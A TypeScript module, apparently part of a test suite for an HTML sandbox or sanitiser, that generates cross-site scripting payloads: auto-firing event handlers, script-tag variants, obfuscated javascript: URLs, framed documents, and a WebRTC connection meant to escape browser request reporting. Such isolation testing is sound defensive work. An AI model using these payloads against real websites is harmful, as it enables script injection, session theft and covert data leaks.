import { escape, ofKind, quoted, type Attack, type Means } from './isolation-attack.ts'

/** Elements whose events fire without the user. */
export function handlers({ script }: Means): Attack[] {
  const value = quoted(script)
  const loading = `img video audio iframe embed object svg link script input`.split(' ')
  return [
    ...ofKind('handler of loading', [
      ...loading.map(
        (name) => `<${name} src=x href=x data=x type=image rel=stylesheet onerror=${value} onload=${value}>`,
      ),
      `<body onload=${value}>`,
      `<body onpageshow=${value}>`,
      `<svg onload=${value}></svg>`,
      `<svg><g onload=${value}></g></svg>`,
      `<svg><image href=x onerror=${value}></svg>`,
      `<svg><animate onbegin=${value} attributeName=x dur=1s></svg>`,
      `<svg><set onbegin=${value} attributeName=x to=1></svg>`,
      `<svg><animatetransform onbegin=${value} attributeName=transform dur=1s></svg>`,
      `<video><source onerror=${value}></video>`,
      `<audio src=x onerror=${value}></audio>`,
      `<picture><source srcset=x><img onerror=${value} src=x></picture>`,
      `<style onload=${value}>a{}</style>`,
      `<link rel=stylesheet href=data:text/css, onload=${value}>`,
      `<object data=x onerror=${value}></object>`,
      `<iframe src=about:blank onload=${value}></iframe>`,
      `<frameset onload=${value}><frame></frameset>`,
      `<details open ontoggle=${value}><summary>x</summary></details>`,
      `<marquee onstart=${value}>x</marquee>`,
      `<image src=x onerror=${value}>`,
      `<track src=x onerror=${value}>`,
    ]),
    ...ofKind('handler of focus', [
      ...['input', 'textarea', 'select', 'button'].map((name) => `<${name} autofocus onfocus=${value}></${name}>`),
      `<a autofocus tabindex=0 href=#x onfocus=${value}>x</a>`,
      `<p contenteditable autofocus onfocus=${value}>x</p>`,
    ]),
    ...ofKind('handler of animation', [
      `<style>@keyframes k{to{left:0}}</style><p style="animation:k 1ms" onanimationstart=${value}>x</p>`,
      `<style>@keyframes k{to{left:0}}</style><p style="animation:k 1ms" onanimationend=${value}>x</p>`,
      `<style>@keyframes k{to{left:0}}</style><b style="animation:k 1ms" onwebkitanimationend=${value}>x</b>`,
    ]),
    ...ofKind(
      'handler of a click',
      ['onclick', 'onmousedown', 'onmouseup', 'onpointerdown', 'onmouseover', 'onmouseenter', 'ONCLICK'].map(
        (name) => `<p ${name}=${value}>click me</p>`,
      ),
      { needsClick: true },
    ),
  ]
}

export function scripts({ script, url }: Means): Attack[] {
  return ofKind('script', [
    `<script>${script}</script>`,
    `<SCRIPT>${script}</SCRIPT>`,
    `<script\n>${script}</script >`,
    `<script/x>${script}</script/x>`,
    `<script type=text/javascript>${script}</script>`,
    `<script type=module>${script}</script>`,
    `<script language=javascript>${script}</script>`,
    `<script src=${url('a.js')}></script>`,
    `<script src="${url('b.js')}" async></script>`,
    `<script type=module src=${url('c.js')}></script>`,
    `<script src="data:text/javascript,${encodeURIComponent(script)}"></script>`,
    `<svg><script>${script}</script></svg>`,
    `<svg><script href=${url('d.js')}></script></svg>`,
    `<math><script>${script}</script></math>`,
    `<scr<script>ipt>${script}</script><script>${script}</script>`,
    `<script><!--\n${script}\n//--></script>`,
    `<script>//<![CDATA[\n${script}\n//]]></script>`,
    `<noscript><p title="</noscript><script>${script}</script>">`,
    `<p><script>${script}</script></p>`,
    `<table><script>${script}</script></table>`,
    `<template><script>${script}</script></template><script>${script}</script>`,
    `<script>${script}`,
    `<title><script>1</script></title><script>${script}</script>`,
    `<script nonce=x integrity=x>${script}</script>`,
    `<script type=importmap>{"imports":{"x":"${url('e.js')}"}}</script><script type=module>import "x"</script>`,
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url('f.html')}"]}]}</script>`,
    `<script>${connecting(url)};${script}</script>`,
  ])
}

/** Connects to a relay for calls, without a request that the browser reports. */
function connecting(url: Means['url']): string {
  const servers = `[{urls:'turn:${new URL(url('')).host}?transport=tcp',username:'a',credential:'b'}]`
  return `c=new RTCPeerConnection({iceServers:${servers}});c.createDataChannel('x');c.createOffer().then((o)=>c.setLocalDescription(o))`
}

/** URLs that are scripts. */
export function scriptAddresses({ script }: Means): Attack[] {
  const address = `javascript:${encodeURIComponent(script)}`
  const spelt = [
    address,
    `JaVaScRiPt:${encodeURIComponent(script)}`,
    ` ${address}`,
    `\u0001${address}`,
    `java\tscript:${encodeURIComponent(script)}`,
    `java\nscript:${encodeURIComponent(script)}`,
    `java&#9;script:${encodeURIComponent(script)}`,
    `java&NewLine;script&colon;${encodeURIComponent(script)}`,
    `&#106;&#97;vascript&#58;${encodeURIComponent(script)}`,
    `&#x6a&#x61;vascript:${encodeURIComponent(script)}`,
    `javascript://%0a${encodeURIComponent(script)}`,
    `feed:${address}`,
    `vbscript:msgbox(1)`,
    `data:text/html,<script>${script}</script>`,
    `data:text/html;base64,${Buffer.from(`<script>${script}</script>`).toString('base64')}`,
    `blob:${address}`,
  ]
  return [
    ...ofKind(
      'address in a link',
      spelt.map((href) => `<a href="${href}">click me</a>`),
      { needsClick: true },
    ),
    ...ofKind(
      'address that is clicked',
      [
        `<form action="${address}"><button>click me</button></form>`,
        `<form><button formaction="${address}">click me</button></form>`,
        `<form><input type=submit formaction="${address}" value="click me"></form>`,
        `<svg><a href="${address}"><text y=20>click me</text></a></svg>`,
        `<svg><a xlink:href="${address}"><text y=20>click me</text></a></svg>`,
        `<math><mtext href="${address}">click me</mtext></math>`,
        `<a href="${address}" target=_self>click me</a>`,
        `<a href="${address}" target=_top>click me</a>`,
        `<a href="${address}" target=_parent rel=opener>click me</a>`,
        `<a href="${address}" target=_blank rel=opener>click me</a>`,
        `<img usemap=#m width=99 height=99 alt="click me"><map name=m><area shape=default href="${address}"></map>`,
      ],
      { needsClick: true },
    ),
    ...ofKind(
      'address of an element',
      spelt
        .slice(0, 6)
        .flatMap((src) => [
          `<iframe src="${src}"></iframe>`,
          `<object data="${src}"></object>`,
          `<embed src="${src}">`,
          `<img src="${src}">`,
          `<body background="${src}">`,
        ]),
    ),
  ]
}

export function framedDocuments({ script, url }: Means): Attack[] {
  const page = `<script>${script}</script>`
  return ofKind('framed document', [
    `<iframe srcdoc="${escape(page)}"></iframe>`,
    `<iframe srcdoc='${page.replaceAll("'", '&#39;')}'></iframe>`,
    `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="${escape(page)}"></iframe>`,
    `<iframe src="data:text/html,${encodeURIComponent(page)}"></iframe>`,
    `<iframe src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg">${page}</svg>`)}"></iframe>`,
    `<object data="data:text/html,${encodeURIComponent(page)}"></object>`,
    `<object type=text/html data="${url('framed.html')}"></object>`,
    `<embed src="data:text/html,${encodeURIComponent(page)}">`,
    `<embed type=text/html src="${url('embedded.html')}">`,
    `<iframe src="${url('frame.html')}"></iframe>`,
    `<frameset><frame src="${url('frames.html')}"></frameset>`,
    `<iframe srcdoc="${escape(page)}" loading=eager></iframe>`,
    `<portal src="${url('portal.html')}"></portal>`,
    `<fencedframe src="${url('fenced.html')}"></fencedframe>`,
  ])
}
